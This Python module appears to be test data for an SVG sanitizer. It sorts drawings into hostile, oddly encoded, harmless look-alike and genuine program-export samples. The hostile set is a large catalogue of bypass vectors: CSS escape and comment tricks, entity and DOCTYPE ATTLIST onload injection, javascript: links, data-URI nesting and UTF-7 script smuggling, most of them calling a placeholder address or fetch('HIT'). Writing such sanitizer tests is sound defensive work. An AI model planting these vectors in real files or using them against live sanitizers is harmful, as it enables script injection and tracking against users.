"""Drawings (SVG): some that load or run something in a browser, some that only look so, and what drawing programs save.

`HIT` stands for an address elsewhere.
"""

# ruff: noqa: E501

from base64 import b64encode
from urllib.parse import quote

NS = 'xmlns="http://www.w3.org/2000/svg"'
LINKED = f'{NS} xmlns:xlink="http://www.w3.org/1999/xlink"'
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
_RECT = '<rect width="9" height="9" class="a"/>'
_HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
_XHTML = '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
_RUN = "fetch('HIT')"


def _svg(inside: str, attributes: str = "") -> str:
    return f"<svg {LINKED} {attributes}>{inside}</svg>"


def _style(css: str) -> str:
    return _svg(f"<style>{css}</style>{_RECT}<text>Aa</text>")


def _styled(css: str) -> str:
    return _svg(f"<rect width='9' height='9' style='{css}'/>")


def _data(kind: str, text: str, *, base64: bool = False) -> str:
    return (
        f"data:{kind};base64,{b64encode(text.encode()).decode()}" if base64 else f"data:{kind},{quote(text)}"
    )


_INNER = _svg("<image href='HIT' width='9' height='9'/>")

HOSTILE = {
    # Styles
    "url": _styled("fill:url(HIT#a)"),
    "url-filter": _svg(f"<g filter='url(HIT#a)'>{_RECT}</g>"),
    "url-mask": _svg("<rect width='9' height='9' mask='url(HIT#a)'/>"),
    "url-clip": _svg("<rect width='9' height='9' clip-path='url(HIT#a)'/>"),
    "url-marker": _svg("<path d='M0 0L9 9' stroke='red' marker-end='url(HIT#a)'/>"),
    "url-cursor": _svg("<rect width='9' height='9' cursor='url(HIT),auto'/>"),
    "url-quoted": _styled('fill:url( "HIT#a" )'),
    "url-capitals": _style(".a{background:uRL(HIT)} svg{background:URL(HIT)}"),
    "escape": _style(r"svg{background:\75rl(HIT)}"),
    "escape-attribute": _svg(r"<rect width='9' height='9' mask='\75rl(HIT#a)'/>"),
    "escape-style-attribute": _svg("", r"style='background:u\72 l(HIT)'"),
    "escape-six": _style(r"svg{background:\000075\000072\00006c(HIT)}"),
    "escape-newline": _style("svg{background:\\75\nrl(HIT)}"),
    "escape-plain-letter": _style(r"svg{background:\u\r\l(HIT)}"),
    "escape-in-address": _style("svg{background:url('\\\nHIT')}"),
    "escape-entity": _style("svg{background:&#x5c;75rl(HIT)}"),
    "escape-import": _style(r"@\69mport 'HIT';"),
    "escape-import-capital": _style(r"@\49 MPOR\54  'HIT';"),
    "entity": _svg("", "style='background:&#x75;r&#108;&#40;HIT)'"),
    "cdata": _style("<![CDATA[svg{background:u]]><![CDATA[rl(HIT)}]]>"),
    "comment-xml": _style("<!-- -->@import 'HIT';"),
    "comment-xml-within": _style("svg{background:u<!-- -->rl(HIT)}"),
    "instruction-within": _style("<?a b?>@import 'HIT';"),
    "element-within": _style("<g/>@import 'HIT';"),
    "comment-css": _style("@import/**/'HIT';"),
    "comment-css-before": _style("/* a */@import/* b */url(/**/HIT);@import /* */ 'HIT';"),
    "comment-hides-end": _style(
        "svg{content:'/*'} g{background:url(/*)} svg{background:url(HIT)} a{content:'*/'}"
    ),
    "import-string": _style("@import 'HIT';"),
    "import-data": _style(f"@import '{_data('text/css', 'svg{background:url(HIT)}')}';"),
    "import-no-space": _style("@IMPORT'HIT';"),
    "import-unclosed": _style("@import url(HIT"),
    "font": _style("@font-face{font-family:a;src:url(HIT)} text{font-family:a}"),
    "font-escaped": _style(r"@font-face{font-family:a;src:\55 RL(HIT)} text{font-family:a}"),
    "image-set": _style("svg{background:image-set('HIT' 1x)}"),
    "image-set-webkit": _style("svg{background:-webkit-image-set(url(HIT) 1x)}"),
    "image-set-variable": _style("svg{--a:'HIT';background:image-set(var(--a) 1x)}"),
    "image-set-escaped": _style(r"svg{background:im\61ge-set('HIT' 1x)}"),
    "variable": _style("svg{--a:url(HIT);background:var(--a)}"),
    "src-function": _style("svg{background:src('HIT')}"),
    "property": _style(
        "@property --a{syntax:'*';inherits:true;initial-value:'HIT'} svg{background:image-set(var(--a) 1x)}"
    ),
    "function": _style("@function --a(){result:'HIT'} svg{background:image-set(--a() 1x)}"),
    "nested": _style(
        "svg{& rect{fill:red} @container style(--a:1){@scope{@starting-style{background:url(HIT)}}}}"
    ),
    "modifier": _style("svg{background:url('HIT' crossorigin(anonymous))}"),
    "binding": _styled("-moz-binding:url(HIT);behavior:url(HIT)"),
    "cross-fade": _style("svg{background:-webkit-cross-fade(url(HIT),url(HIT),50%)}"),
    "list-style": _style("svg{content:url(HIT)} text{shape-outside:url(HIT)}"),
    "style-other-prefix": "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:style>@import 'HIT';</s:style></s:svg>",
    "style-html": _svg(f"<style {_HTML}>@import 'HIT';</style>"),
    "style-type": _style("").replace("<style>", "<style type='text/plain'>@import 'HIT';"),
    "style-animated": _svg("<rect width='9' height='9'><set attributeName='mask' to='url(HIT#a)'/></rect>"),
    # Addresses
    "image": _svg("<image href='HIT' width='9' height='9'/>"),
    "image-xlink": _svg("<image xlink:href='HIT' width='9' height='9'/>"),
    "image-other-prefix": f"<svg {NS} xmlns:b='http://www.w3.org/1999/xlink'><image b:href='HIT' width='9' height='9'/></svg>",
    "image-space": _svg("<image href=' &#10;HIT' width='9' height='9'/>"),
    "image-no-scheme": _svg("<image href='//example.org/a' width='9' height='9'/>"),
    "image-relative": _svg("<image href='other' width='9' height='9'/>"),
    "image-animated": _svg("<image width='9' height='9'><set attributeName='href' to='HIT'/></image>"),
    "image-animated-values": _svg(
        "<image width='9' height='9'><animate attributeName='xlink:href' values='HIT;HIT' dur='1s'/></image>"
    ),
    "image-base": _svg("<image href='#a' width='9' height='9' xml:base='HIT'/>"),
    "fe-image": _svg(
        "<filter id='f'><feImage href='HIT'/></filter><rect width='9' height='9' filter='url(#f)'/>"
    ),
    "use": _svg("<use href='HIT#a'/>"),
    "use-data": _svg(f'<use href="{_data("image/svg+xml", _svg(_RECT, "id=%22a%22"))}#a"/>'),
    "gradient": _svg("<linearGradient id='g' href='HIT#a'/><rect width='9' height='9' fill='url(#g)'/>"),
    "font-face-uri": _svg(
        "<font-face><font-face-src><font-face-uri href='HIT'/></font-face-src></font-face>"
    ),
    "link-script": _svg(f'<a href="jav&#x0A;ascript:{_RUN}"><text>Aa</text></a>'),
    "link-script-control": _svg("<a href='&#9;javascript&#58;alert(1)'><text>Aa</text></a>"),
    "link-animated": _svg(f"<a><set attributeName='href' to=\"javascript:{_RUN}\"/><text>Aa</text></a>"),
    "ping": _svg("<a href='#a' ping='HIT'><text>Aa</text></a>"),
    "data-svg": _svg(f'<image href="{_data("image/svg+xml", _INNER)}" width="9" height="9"/>'),
    "data-svg-base64": _svg(
        f'<image href="{_data("IMAGE/svg+xml", _INNER, base64=True)}" width="9" height="9"/>'
    ),
    "data-svg-charset": _svg(
        '<image href="data:image/svg+xml;charset=utf-7,+ADw-svg+AD4-" width="9" height="9"/>'
    ),
    "data-html": _svg(f'<image href="{_data("text/html", "<script>1</script>")}"/>'),
    "data-svg-style": _styled(f"background:url({_data('image/svg+xml', _INNER)})"),
    # Elements and scripts
    "script": _svg(f"<script>{_RUN}</script>"),
    "script-href": _svg("<script href='HIT'/>"),
    "script-html": _svg(f"<script {_HTML}>{_RUN}</script>"),
    "script-prefix": _svg("<h:script xmlns:h='http://www.w3.org/1999/xhtml' src='HIT'/>"),
    "script-in-metadata": _svg(f"<metadata><x xmlns='urn:a'><script {NS}>{_RUN}</script></x></metadata>"),
    "html-image": _svg(f"<img {_HTML} src='HIT'/>"),
    "html-srcset": _svg(f"<img {_HTML} srcset='HIT 1x'/>"),
    "html-body": _svg(f"<body {_HTML} background='HIT'/>"),
    "html-link": _svg(f"<link {_HTML} rel='stylesheet' href='HIT'/>"),
    "html-frame": _svg(f"<iframe {_HTML} srcdoc='&lt;img src=HIT>'/>"),
    "html-base": _svg(f"<base {_HTML} href='HIT'/><image href='a' width='9' height='9'/>"),
    "html-refresh": _svg(f"<meta {_HTML} http-equiv='refresh' content='0;url=HIT'/>"),
    "foreign": _svg(f"<foreignObject width='9' height='9'><img {_HTML} src='HIT'/></foreignObject>"),
    "mathml": _svg("<math xmlns='http://www.w3.org/1998/Math/MathML' href='HIT'><mi>a</mi></math>"),
    "event": _svg("", f'onload="{_RUN}"'),
    "event-capitals": _svg("", f'onLoad="{_RUN}"'),
    "event-animation": _svg(f'<animate attributeName="x" dur="1s" onbegin="{_RUN}"/>'),
    "event-animated": _svg(f"<rect><set attributeName='onclick' to=\"{_RUN}\"/></rect>"),
    # What an XML file may have before its first element
    "stylesheet": f"<?xml-stylesheet href='HIT'?>{_svg(_RECT)}",
    "stylesheet-transform": f"<?xml-stylesheet type='text/xsl' href='HIT'?>{_svg(_RECT)}",
    "entities": "<!DOCTYPE svg [<!ENTITY a 'url(HIT)'>]>" + _svg("", "style='background:&a;'"),
    "attribute-list": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{_RUN}">]>{_svg("")}',
    "attribute-list-hidden": (
        f'<!--a--><?b c?>\n<!DOCTYPE svg PUBLIC "[" \'>\'\n[<!ATTLIST svg onload CDATA "{_RUN}">]>{_svg("")}'
    ),
    "entity-of-html": _XHTML + _style("svg{background:&bsol;75rl(HIT)}"),
    "entity-of-html-attribute": _XHTML + _svg("", "style='background:&bsol;75rl(HIT)'"),
    "entity-of-html-cdata": _XHTML + _style("<![CDATA[svg{background:]]>&#117;&Tab;rl(HIT)}"),
    "element-only": "<script xmlns='http://www.w3.org/2000/svg'>fetch('HIT')</script>",
}
"""By name: a drawing that a course may not have. Most load or run something in some browser."""

ENCODED = {
    "utf-16": _svg("<script>1</script>").encode("utf-16"),
    "utf-16-unmarked": _svg("<script>1</script>").encode("utf-16-le"),
    "utf-7": b"<?xml version='1.0' encoding='utf-7'?>" + _svg("+ADw-script+AD4-1+ADw-/script+AD4-").encode(),
    "utf-32": _svg("<script>1</script>").encode("utf-32"),
    "shift-jis": b"<?xml version='1.0' encoding='shift_jis'?>" + _svg(_RECT).encode(),
    "iso-2022": b"<?xml version='1.0' encoding='ISO-2022-JP'?>" + _svg(_RECT).encode(),
    "ebcdic": _svg(_RECT).encode("cp037"),
    "marked-but-other": b"\xef\xbb\xbf<?xml version='1.0' encoding='iso-8859-1'?>" + _svg(_RECT).encode(),
    "not-utf-8": _svg("<text>caf\xe9</text>").encode("latin-1"),
    "long-declaration": b"<?xml version='1.0'" + b" " * 5000 + b"encoding='utf-7'?>" + _svg(_RECT).encode(),
    "unknown": b"<?xml version='1.0' encoding='x-user-defined'?>" + _svg(_RECT).encode(),
}
"""By name: a drawing that programs could read in different ways."""

HARMLESS = {
    "comment-splits": _style("svg{background:u/**/rl(HIT)}"),
    "comment": _style("/* url(HIT) @import 'HIT' */ .a{fill:red}"),
    "comment-xml": _svg(f"<!-- <script>{_RUN}</script> -->{_RECT}"),
    "text": _svg("<title>url(HIT)</title><text>@import 'HIT' onload=alert(1) javascript:</text>"),
    "label": _svg(_RECT, "role='img' aria-label='See url(HIT)'"),
    "within": _svg(
        "<linearGradient id='g'/><rect width='9' height='9' fill='url( \"#g\" )' style='mask:url(#m)'/>"
    ),
    "escaped-within": _svg(r"<rect width='9' height='9' fill='\75rl(#g)'/>"),
    "nothing": _styled("fill:url()"),
    "use": _svg("<g id='a'/><use xlink:href='#a'/><a href='#a'><text>Aa</text></a>"),
    "pixels": _svg(f"<image width='9' height='9' xlink:href='data:image/png;base64,\n{PIXEL}'/>"),
    "drawing-within": _svg(f'<image width="9" height="9" href="{_data("image/svg+xml", _svg(_RECT))}"/>'),
    "drawing-within-base64": _svg(
        f'<image width="9" height="9" href="{_data("image/svg+xml;charset=utf-8", _svg(_RECT), base64=True)}"/>'
    ),
    "font": _style("@font-face{font-family:a;src:url(data:font/woff2;base64,AAAA) format('woff2')}"),
    "image-set": _style(f"svg{{background:image-set('data:image/png;base64,{PIXEL}' type('image/png') 1x)}}"),
    "moving": _svg(
        "<rect><animate attributeName='x' values='0;9' dur='1s'/><animateMotion><mpath href='#p'/></animateMotion></rect>"
    ),
    "namespace": _style("@namespace svg url(http://www.w3.org/2000/svg); svg|rect{fill:red}"),
    "prefix": "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:rect width='9' height='9'/></s:svg>",
    "doctype": f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">{_svg(_RECT)}',
    "bracket-in-comment": f"<!-- [a] <!DOCTYPE svg [ -->{_svg(_RECT)}",
    "unknown-namespace": _svg(
        "<x xmlns='urn:a' style='background:url(#a)'><script>fetch('HIT')</script></x>"
    ),
}
"""By name: a drawing that loads and runs nothing, whatever it looks like."""

GENUINE = {
    "inkscape": f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="24" height="24" viewBox="0 0 24 24" version="1.1" id="svg5" inkscape:version="1.2.2 (b0a8486541, 2022-12-01)"
   sodipodi:docname="rings.svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" {LINKED}
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:svg="http://www.w3.org/2000/svg">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" inkscape:pageshadow="2"><inkscape:grid type="xygrid"/></sodipodi:namedview>
  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format>
    <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/>
    <cc:license rdf:resource="http://creativecommons.org/licenses/by/4.0/"/></cc:Work></rdf:RDF></metadata>
  <defs id="defs2"><linearGradient inkscape:collect="always" xlink:href="#a" id="b" gradientTransform="matrix(1,0,0,1,0,0)"/>
    <inkscape:path-effect effect="spiro" id="path-effect1" is_visible="true"/></defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <path style="fill:url(#b);-inkscape-font-specification:'sans-serif, Normal'" d="m 1,1 h 9" inkscape:original-d="m 1,1"/>
    <flowRoot xml:space="preserve"><flowRegion><rect width="9" height="9"/></flowRegion><flowPara>Aa</flowPara></flowRoot>
  </g>
</svg>""",
    "illustrator": f"""<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 26.0.1, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" {LINKED} x="0px" y="0px" viewBox="0 0 24 24" style="enable-background:new 0 0 24 24;" xml:space="preserve">
<style type="text/css"><![CDATA[
	.st0{{clip-path:url(#SVGID_2_);fill:#0F5560;}}
	.st1{{font-family:'MyriadPro-Regular';font-size:12px;}}
]]></style>
<switch><g i:extraneous="self" xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/">
<defs><rect id="SVGID_1_" width="24" height="24"/></defs><clipPath id="SVGID_2_"><use xlink:href="#SVGID_1_" style="overflow:visible;"/></clipPath>
<text transform="matrix(1 0 0 1 4 12)" class="st0 st1">Aa</text></g></switch>
</svg>""",
    "figma": f"""<svg width="24" height="24" viewBox="0 0 24 24" fill="none" {LINKED}>
<g filter="url(#filter0_d)"><rect width="24" height="24" fill="url(#pattern0)"/></g>
<defs><filter id="filter0_d" color-interpolation-filters="sRGB"><feFlood flood-opacity="0" result="BackgroundImageFix"/><feOffset dy="4"/>
<feGaussianBlur stdDeviation="2"/><feBlend mode="normal" in2="BackgroundImageFix"/></filter>
<pattern id="pattern0" patternContentUnits="objectBoundingBox"><use xlink:href="#image0" transform="scale(0.01)"/></pattern>
<image id="image0" width="1" height="1" xlink:href="data:image/png;base64,{PIXEL}"/></defs></svg>""",
    "libreoffice": f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'>
<svg version="1.2" width="90mm" height="90mm" preserveAspectRatio="xMidYMid" {LINKED} xmlns:ooo="http://xml.openoffice.org/svg/export"
 xmlns:presentation="http://sun.com/xmlns/staroffice/presentation" xmlns:smil="http://www.w3.org/2001/SMIL20/">
<defs class="EmbeddedBulletChars"><g id="bullet-char-template-57356" transform="scale(0.0004,-0.0004)"><path d="M 580,1141"/></g></defs>
<g ooo:has-custom-background="false"><text class="SVGTextShape"><tspan class="TextPosition" x="1" y="2">Aa</tspan></text></g></svg>""",
    "powerpoint": f"""<svg width="96" height="96" {LINKED} xml:space="preserve" overflow="hidden"><defs><clipPath id="clip0"><rect width="9" height="9"/></clipPath></defs>
<g clip-path="url(#clip0)"><path d="M1 1" style="mix-blend-mode:normal"/></g></svg>""",
}
"""By program: what it saves."""
